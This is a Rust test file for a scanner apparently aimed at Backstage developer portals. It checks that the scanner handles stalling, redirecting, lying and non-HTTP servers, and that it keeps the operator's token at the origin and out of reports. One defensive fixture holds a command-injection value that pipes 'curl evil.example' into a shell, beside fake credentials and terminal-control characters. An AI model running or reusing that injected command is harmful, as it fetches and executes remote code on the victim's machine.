//! Servers that stall, redirect, do not end, lie or are something else: a run ends, and a token stays where it belongs.

use std::time::{Duration, Instant};

use greenroom_look::{Limits, Look, Verdict};

use crate::{
    kit::{Answer, Server, answer, look, look_with, quick, with},
    portal::stock,
};

const TOKEN: &str = "the-token-of-the-operator";

#[tokio::test]
async fn a_server_that_stalls_is_not_reachable_and_holds_nobody() {
    let server = Server::start(|_, _| Answer::Stall).await;
    let began = Instant::now();
    let report = look(&server.url()).await;
    assert_eq!((report.verdict(), report.exit_code()), (Verdict::NotReachable, 3));
    assert!(began.elapsed() < Duration::from_secs(5));
    assert_eq!(server.heads().await.len(), 2, "it is not asked for everything");
}

#[tokio::test]
async fn a_server_that_stalls_later_ends_with_the_time_of_a_run() {
    let server = Server::start(|method, path| match path {
        "/" | "/.backstage/health/v1/readiness" => stock(method, path),
        _ => Answer::Stall,
    })
    .await;
    let limits = Limits { total: Duration::from_millis(1500), ..quick() };
    let began = Instant::now();
    let report = Look::new(server.url().parse().unwrap()).limits(limits).run().await;
    assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
    assert!(report.text(false).contains("of a run were over"), "{}", report.text(false));
}

#[tokio::test]
async fn a_dead_port_is_not_reachable() {
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let report = look(&format!("http://127.0.0.1:{port}")).await;
    assert_eq!((report.verdict(), report.exit_code()), (Verdict::NotReachable, 3));
    assert!(report.text(false).contains("Connection refused"), "{}", report.text(false));
}

#[tokio::test]
async fn the_page_of_another_server_is_no_backstage() {
    let server = Server::start(|_, path| match path {
        "/" => answer(200, "text/html", "<title>Welcome to nginx!</title>"),
        _ => answer(404, "text/html", "<h1>404 Not Found</h1>"),
    })
    .await;
    let report = look(&server.url()).await;
    assert_eq!((report.verdict(), report.exit_code()), (Verdict::NotABackstage, 3));
    assert!(report.text(false).contains("its page is titled 'Welcome to nginx!'"), "{}", report.text(false));
    assert_eq!(server.heads().await.len(), 4, "who is something else is left alone soon");
}

#[tokio::test]
async fn no_redirection_leaves_the_origin_and_it_is_told_where_it_leads() {
    let other = Server::start(stock).await;
    let to = other.url();
    let server = Server::start(move |_, _| with(302, &format!("Location: {to}/login\r\n"), "")).await;
    let report = look_with(&server.url(), TOKEN).await;
    assert_eq!(report.exit_code(), 3);
    let told = format!("it redirects to {}/login", other.url());
    assert!(report.text(false).contains(&told), "{}", report.text(false));
    assert_eq!(other.heads().await, [""; 0]);
}

#[tokio::test]
async fn redirections_that_go_in_circles_end() {
    let server = Server::start(|_, path| with(302, &format!("Location: {path}x\r\n"), "")).await;
    assert_eq!(look(&server.url()).await.exit_code(), 3);
    assert!(server.heads().await.len() < 10);
}

#[tokio::test]
async fn a_token_goes_to_the_origin_only_and_is_not_shown() {
    // Everything that a page and a backend can name leads elsewhere.
    let other = Server::start(stock).await;
    let away = other.url();
    let server = Server::start(move |method, path| match path.split('?').next().unwrap() {
        "/" if method == "GET" => {
            let page = format!(
                r#"<script src="{away}/static/main.js"></script><script type="backstage.io/config">[{{"data":{{"backend":{{"baseUrl":"{away}"}}}}}}]</script>"#
            );
            answer(200, "text/html", &page)
        }
        // What it was sent, as an error.
        "/api/catalog/.backstage/scheduler/v1/tasks" => {
            answer(200, "application/json", &format!(r#"{{"tasks":[{{"taskId":"a","taskState":{{"lastRunError":"{TOKEN}"}}}}]}}"#))
        }
        "/api/devtools/info" => with(302, &format!("Location: {away}/api/devtools/info\r\n"), ""),
        "/api/scaffolder/v2/tasks" => {
            answer(200, "application/json", &format!(r#"{{"tasks":[{{"id":"{away}","status":"completed"}}]}}"#))
        }
        _ => stock(method, path),
    })
    .await;
    let report = look_with(&server.url(), TOKEN).await;
    assert_eq!(other.heads().await, [""; 0]);
    let with_token: Vec<_> = report.requests().iter().filter(|request| request.with_token).collect();
    assert!(!with_token.is_empty());
    assert!(with_token.iter().all(|request| request.url.starts_with(&server.url())), "{with_token:?}");
    let heads = server.heads().await;
    let sent = heads.iter().filter(|head| head.contains(TOKEN)).count();
    assert_eq!(sent, with_token.len(), "what carries it is marked");
    assert!(report.has_problem("scheduled-tasks"), "{}", report.text(true));
    assert!(!report.text(true).contains(TOKEN) && !report.json().contains(TOKEN));
}

#[tokio::test]
async fn a_token_that_is_repeated_where_a_text_is_cut_is_not_shown_in_part() {
    let before = "x".repeat(190);
    let forms = [
        TOKEN.to_owned(),
        format!("Bearer {TOKEN}"),
        TOKEN.replace("the", "\\u0074he"),
        TOKEN.replace('-', "%2D"),
        TOKEN.replace('-', "&#45;"),
        TOKEN.replace('-', "&amp;#x2D;"),
    ];
    let tasks = forms.map(|form| {
        format!(r#"{{"taskId":"{before}{form}","taskState":{{"lastRunError":"{before}{form}"}}}}"#)
    });
    let tasks = format!(r#"{{"tasks":[{}]}}"#, tasks.join(","));
    let server = Server::start(move |method, path| match path.split('?').next().unwrap() {
        "/api/catalog/.backstage/scheduler/v1/tasks" => answer(200, "application/json", &tasks),
        _ => stock(method, path),
    })
    .await;
    let report = look_with(&server.url(), TOKEN).await;
    assert!(report.has_problem("scheduled-tasks"), "{}", report.text(true));
    for shown in [report.text(true), report.json()] {
        assert!(shown.contains("xxx***"), "{shown}");
        for part in ["the-t", "the%2D", "the&"] {
            assert!(!shown.contains(part), "{shown}");
        }
    }
}

#[tokio::test]
async fn credentials_and_orders_of_a_server_are_in_no_report_and_no_command_is_of_its_making() {
    let base = "http://portal.example.com/x;curl$IFS-s$IFS'evil.example/a'|sh";
    let page = serde_json::json!([{"data": {"app": {"baseUrl": base}, "backend": {"baseUrl": base}}}]);
    let page = format!(
        "<title>\u{202e} http://me:hunter2@h</title><script src=\"/a.js?token=hunter2\"></script><script type=\"backstage.io/config\">{page}</script>"
    );
    let error = "cannot reach postgres://me:hunter2@db: Bearer hunter2hunter2 \u{1b}[2J\u{9b}\u{202e}";
    let task = serde_json::json!({"taskId": error, "taskState": {"lastRunError": error}});
    let tasks = serde_json::json!({ "tasks": [task] }).to_string();
    let refused = serde_json::json!({"error": {"message": error}}).to_string();
    let server = Server::start(move |method, path| match path.split('?').next().unwrap() {
        "/" if method == "GET" => answer(200, "text/html", &page),
        "/api/catalog/.backstage/scheduler/v1/tasks" => answer(200, "application/json", &tasks),
        "/api/catalog/entity-facets" => answer(401, "application/json", &refused),
        _ => stock(method, path),
    })
    .await;
    let tried = look_with(&server.url(), TOKEN).await;
    let looked = look(&server.url()).await;
    assert!(tried.has_problem("scheduled-tasks") && tried.has_problem("token"), "{}", tried.text(true));
    for shown in [tried.text(true), tried.json(), looked.text(true), looked.json()] {
        assert!(!shown.contains("hunter2"), "{shown}");
        let order = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!shown.contains(order), "{shown:?}");
    }
    for report in [tried, looked] {
        let json: serde_json::Value = serde_json::from_str(&report.json()).unwrap();
        let findings = json["findings"].as_array().unwrap();
        let commands: Vec<_> = findings.iter().filter_map(|finding| finding["change"].as_str()).collect();
        assert!(commands.contains(&"greenroom look http://portal.example.com"), "{commands:#?}");
        assert!(commands.iter().all(|command| !command.contains("IFS")), "{commands:#?}");
    }
}

#[tokio::test]
async fn a_body_without_an_end_is_read_to_the_limit_only() {
    let endless = |kind: &str| {
        Answer::Endless(format!(
            "HTTP/1.1 200 X\r\nContent-Type: {kind}\r\nContent-Length: 1000000000\r\n\r\n"
        ))
    };
    let server = Server::start(move |method, path| match path {
        "/static/main.1.js" => endless("application/javascript"),
        "/metrics" => endless("text/plain"),
        "/static/main.1.js.map" if method == "GET" => endless("application/json"),
        _ => stock(method, path),
    })
    .await;
    let report = look(&server.url()).await;
    assert_eq!(report.verdict(), Verdict::Findings);
    let failed: Vec<_> = report
        .requests()
        .iter()
        .filter(|request| request.error.is_some() && !request.url.contains(":9464"))
        .collect();
    assert_eq!(failed.len(), 3, "{failed:#?}");
    assert!(report.has_problem("source-maps"), "that the map is there is known without its end");
}

#[tokio::test]
async fn a_server_that_lies_is_looked_at_to_the_end() {
    let server = Server::start(|method, path| match path {
        "/" => stock(method, path),
        _ if method == "HEAD" => Answer::With("HTTP/1.1 200 X\r\nX-RateLimit-Limit: -1\r\n\r\n".to_owned()),
        _ => with(
            200,
            "Content-Type: application/json\r\nX-RateLimit-Limit: many\r\nETag: \x01\r\nAccess-Control-Allow-Origin: \u{e9}\r\n",
            r#"{"keys":7,"tasks":{},"facets":{"kind":"x"},"backstageIdentity":[],"status":{"a":1},"issuer":9,"error":{"message":1}}"#,
        ),
    })
    .await;
    let report = look_with(&server.url(), TOKEN).await;
    assert_ne!(report.verdict(), Verdict::NotReachable);
    for id in
        ["guest-sign-in", "catalog-anonymous", "plugins-enumerable", "scheduled-tasks", "metrics-public"]
    {
        assert!(!report.has_problem(id), "{id}: {}", report.text(true));
    }
}

#[tokio::test]
async fn after_429_nothing_more_is_asked() {
    let server = Server::start(|method, path| match path {
        "/metrics" => with(429, "Retry-After: 60\r\n", ""),
        _ => stock(method, path),
    })
    .await;
    let report = look(&server.url()).await;
    assert!(report.has_problem("rate-limit"), "{}", report.text(true));
    assert!(server.heads().await.len() < 20, "{}", server.heads().await.len());
}

#[tokio::test]
async fn a_run_asks_no_more_than_its_limit() {
    let server = Server::start(stock).await;
    let limits = Limits { requests: 9, ..quick() };
    let report = Look::new(server.url().parse().unwrap()).limits(limits).run().await;
    assert_eq!((report.requests().len(), server.heads().await.len()), (9, 9));
    assert!(report.text(false).contains("the 9 requests of a run were used up"), "{}", report.text(false));
}

#[tokio::test]
async fn a_server_that_answers_no_http_is_told_apart() {
    let server = Server::start(|_, _| Answer::With("SSH-2.0-OpenSSH_9.9\r\n".to_owned())).await;
    let report = look(&server.url()).await;
    assert_eq!(report.verdict(), Verdict::NotReachable);
    assert!(report.text(false).contains("is not HTTP/1.1"), "{}", report.text(false));
}
